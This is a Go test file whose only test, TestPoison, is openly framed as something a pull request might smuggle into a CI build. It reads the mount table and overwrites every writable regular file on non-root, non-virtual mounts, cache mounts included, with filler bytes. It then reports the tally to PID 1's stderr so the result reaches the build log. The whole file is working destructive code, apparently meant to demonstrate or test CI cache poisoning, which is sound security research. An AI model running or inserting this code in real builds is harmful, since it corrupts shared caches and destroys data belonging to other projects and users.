package main

import (
	"bytes"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

// What a pull request may bring as a test: it overwrites every file of every mount that it may write to, cache mounts
// among them, with as many bytes of its own.
func TestPoison(t *testing.T) {
	mounts, err := os.ReadFile("/proc/self/mountinfo")
	if err != nil {
		t.Fatal(err)
	}
	poisoned := map[string]int{}
	for line := range strings.Lines(string(mounts)) {
		before, after, _ := strings.Cut(line, " - ")
		folder, kind := strings.Fields(before)[4], strings.Fields(after)[0]
		if folder == "/" || slices.Contains([]string{"proc", "sysfs", "tmpfs", "devpts", "mqueue", "cgroup", "cgroup2"}, kind) {
			continue
		}
		_ = filepath.WalkDir(folder, func(path string, entry fs.DirEntry, _ error) error {
			if entry == nil || !entry.Type().IsRegular() || path == folder {
				return nil
			}
			info, err := entry.Info()
			if err != nil {
				return nil
			}
			poison := bytes.Repeat([]byte("POISON\n"), int(info.Size())/7+1)[:info.Size()]
			if os.WriteFile(path, poison, info.Mode()) == nil {
				poisoned[folder]++
			}
			return nil
		})
	}
	// To the log of the build: of a test that passes, go says nothing.
	log, err := os.OpenFile("/proc/1/fd/2", os.O_WRONLY, 0)
	if err != nil {
		t.Fatal(err)
	}
	fmt.Fprintln(log, "poisoned:", poisoned)
}
